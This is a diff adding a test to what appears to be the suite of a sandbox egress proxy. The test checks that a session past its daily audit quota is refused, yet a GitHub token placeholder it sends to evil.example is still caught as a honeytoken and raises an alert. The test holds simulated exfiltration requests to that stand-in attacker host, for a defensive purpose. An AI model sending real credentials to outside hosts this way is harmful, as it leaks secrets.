@@ -16,6 +16,7 @@ import ssl
 from collections.abc import AsyncIterator
 from contextlib import aclosing
 from dataclasses import replace
+from datetime import UTC, datetime
 from pathlib import Path
 
 import httpx
@@ -312,6 +313,29 @@ async def test_a_leak_to_host_after_host_writes_a_bounded_number_of_events(
     assert [e.payload["host"] for e in events] == list(ROAMING[:2])
     audit = [r for r in rig.audit() if getattr(r, "decision", "") == "honeytoken"]
     assert len(audit) == 4
+
+
+async def test_a_session_past_its_audit_share_is_refused_but_its_honeytoken_still_alerts(
+        rig: Rig) -> None:
+    """Past its share of the day's audit lines (``auditshare.py``) a session's requests are
+    refused with a 429 and counted, not written; a placeholder it sends on is still the
+    honeytoken it was (refused as one, the alert raised), so a flood does not blind it."""
+    sid, _ = auth = rig.session("spent")
+    rig.state.config = replace(rig.state.config, audit_bytes_per_day=1024)
+    leak = placeholder_env(KEY, sid)["GH_TOKEN"]
+    assert (await rig.curl(auth, "http://evil.example/before"))[0] == 200
+    written = len(rig.audit())
+    rig.state.shares.spend(sid, 4096, datetime.now(UTC).date().isoformat())
+    status, body = await rig.curl(auth, "http://evil.example/plain")
+    assert status == 429 and b"audit_bytes_per_day" in body, body
+    assert (await rig.curl(auth, f"http://evil.example/?k={leak}"))[0] == 403
+    status, body = await rig.curl(auth, "https://evil.example/new-tunnel")
+    assert status == 0 and body == b"", (status, body)  # curl: the CONNECT got a 429
+    session = rig.store.get_session(sid)
+    assert session is not None and "evil.example" in (session.alert or ""), session
+    kinds = [e.kind for e in rig.store.session_events(sid)]
+    assert "honeytoken" in kinds and kinds.count("audit_share_spent") == 1, kinds
+    assert len(rig.audit()) == written  # counted for the minute's line, none written
 
 
 async def test_a_honeytoken_can_stop_its_session(rig: Rig) -> None:
